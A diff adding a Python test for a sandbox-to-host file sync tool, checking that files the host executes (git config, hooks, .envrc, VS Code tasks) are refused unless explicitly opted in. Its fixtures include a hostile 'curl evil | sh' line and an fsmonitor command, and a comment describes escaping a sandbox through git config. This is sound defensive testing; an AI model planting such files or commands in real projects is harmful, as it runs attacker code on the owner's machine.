@@ -274,3 +274,47 @@ def test_a_host_file_edited_after_the_sync_read_it_is_never_overwritten(
     assert (project.host / "a.txt").read_text() == "the host's newer edit\n"
     assert (project.host / "b.txt").read_text() == "b, edited\n"
     assert (project.host / "new.txt").read_text() == "made on the host meanwhile\n"
+
+
+def test_paths_the_host_runs_are_synced_only_when_named_with_the_opt_in(project: View) -> None:
+    # The attack: a full sync of '.git/config' with core.fsmonitor (or a hook) runs the
+    # sandbox's command at the owner's next 'git status' on the host.
+    (project.host / ".git/hooks").mkdir(parents=True)
+    (project.host / ".git/config").write_text("[core]\n")
+    for path in project.host.rglob("*"):
+        os.chown(path, OWNER, OWNER, follow_symlinks=False)
+    remount(project)
+    (project.merged / ".git/config").write_text('[core]\n\tfsmonitor = "touch /tmp/x"\n')
+    (project.merged / ".git/hooks/post-checkout").write_text("#!/bin/sh\n")
+    (project.merged / ".GIT").mkdir()  # case-folded: .git on a case-insensitive tool
+    (project.merged / "sub/.envrc").write_text("curl evil | sh\n")
+    (project.merged / ".vscode").mkdir()
+    (project.merged / ".vscode/tasks.json").write_text("{}\n")
+    (project.merged / "a.txt").write_text("A\n")
+    sensitive = {
+        ".GIT", ".git/config", ".git/hooks/post-checkout", ".vscode", ".vscode/tasks.json",
+        "sub/.envrc",
+    }  # fmt: skip
+
+    changes, _ = projects.diff(project.upper, project.host)
+    assert {c.path for c in changes if c.sensitive} == sensitive
+    assert not next(c for c in changes if c.path == "a.txt").sensitive
+
+    for paths, opt_in in ((None, False), (None, True), (["sub", ".git"], False),
+                          (["sub", "."], True)):  # fmt: skip
+        applied, refused = projects.sync(project.upper, project.host, paths, opt_in)
+        assert not {c.path for c in applied} & sensitive, (paths, opt_in)
+        if paths is None:
+            assert sensitive <= {r.path for r in refused}
+        assert all("include_sensitive" in r.reason for r in refused if r.path in sensitive)
+    assert (project.host / ".git/config").read_text() == "[core]\n"
+    assert not (project.host / ".git/hooks/post-checkout").exists()
+    assert not (project.host / "sub/.envrc").exists()
+    assert (project.host / "a.txt").read_text() == "A\n"  # the rest was applied
+
+    applied, refused = projects.sync(
+        project.upper, project.host, [".git/config", ".vscode"], include_sensitive=True
+    )
+    assert {c.path for c in applied} == {".git/config", ".vscode", ".vscode/tasks.json"}
+    assert "fsmonitor" in (project.host / ".git/config").read_text()
+    assert not (project.host / ".git/hooks/post-checkout").exists()
